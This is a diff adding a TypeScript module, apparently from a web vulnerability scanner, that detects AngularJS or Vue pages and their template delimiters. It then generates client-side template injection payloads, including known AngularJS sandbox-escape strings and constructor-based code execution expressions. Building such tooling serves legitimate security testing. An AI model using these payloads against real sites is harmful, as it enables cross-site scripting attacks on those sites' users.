@@ -1,0 +1,47 @@
+import { matches } from './matches.ts';
+
+const braces: Delimiters = ['{{', '}}'];
+const angular = /\sng-(?:app|controller|bind|model|init)\b|\sdata-ng-|angular(?:\.min)?\.js/i;
+const vue =
+  /\sv-(?:if|for|bind|on|model|cloak|html)\b|vue(?:\.global)?(?:\.prod|\.min)?\.js|data-v-app|\bnew Vue\(|\bcreateApp\(/i;
+
+/** What a template has before and after an expression. */
+export type Delimiters = readonly [start: string, end: string];
+
+const startSymbol = /\bstartSymbol\(\s{0,5}["'`]([^"'`\s]{1,8})["'`]/g;
+const endSymbol = /\bendSymbol\(\s{0,5}["'`]([^"'`\s]{1,8})["'`]/g;
+const delimiters =
+  /\bdelimiters\s{0,5}:\s{0,5}\[\s{0,5}["'`]([^"'`\s]{1,8})["'`]\s{0,5},\s{0,5}["'`]([^"'`\s]{1,8})["'`]/g;
+const maxDelimiters = 3;
+
+/** Those that scripts set in place of braces, as AngularJS and Vue let them. */
+export function delimitersIn(scripts: string): readonly Delimiters[] {
+  const ends = matches(scripts, endSymbol);
+  const ofAngular = matches(scripts, startSymbol).map((start, at): Delimiters => [start, ends[at] ?? '}}']);
+  const ofVue = [...scripts.matchAll(delimiters)].map(([, start = '', end = '']): Delimiters => [start, end]);
+  return [...ofAngular, ...ofVue].slice(0, maxDelimiters);
+}
+
+/** Expressions for templates that the browser compiles, where the page has such ones. */
+export function templatePayloads(html: string, own: readonly Delimiters[], code: string): readonly string[] {
+  const expressions = [
+    ...(angular.test(html) || vue.test(html) ? [`constructor.constructor('${code}(1)')()`] : []),
+    ...(vue.test(html) ? [`_toDisplayString.constructor('${code}(1)')()`] : []),
+    ...(angular.test(html) ? [...angularPayloads(`${code}(1)`)] : []),
+  ];
+  // With delimiters of their own templates leave braces as they are.
+  const used: readonly Delimiters[] = own.length > 0 ? [...own, braces] : [braces];
+  return used.flatMap(([start, end]) => expressions.map((expression) => `${start}${expression}${end}`));
+}
+
+/** Of AngularJS 1.2 to 1.5, whose expressions have a sandbox, and of any other version. */
+function angularPayloads(call: string): readonly string[] {
+  return [
+    `$on.constructor('${call}')()`,
+    `x={'y':''.constructor.prototype};x['y'].charAt=[].join;$eval('x=${call}')`,
+    `'a'.constructor.prototype.charAt=[].join;$eval('x=1} } };${call}//')`,
+    `'a'.constructor.prototype.charAt=[].join;$eval('x=${call}')`,
+    `toString.constructor.prototype.toString=toString.constructor.prototype.call;["a","${call}"].sort(toString.constructor)`,
+    `a='constructor';b={};a.sub.call.call(b[a].getOwnPropertyDescriptor(b[a].getPrototypeOf(a.sub),a).value,0,'${call}')()`,
+  ];
+}
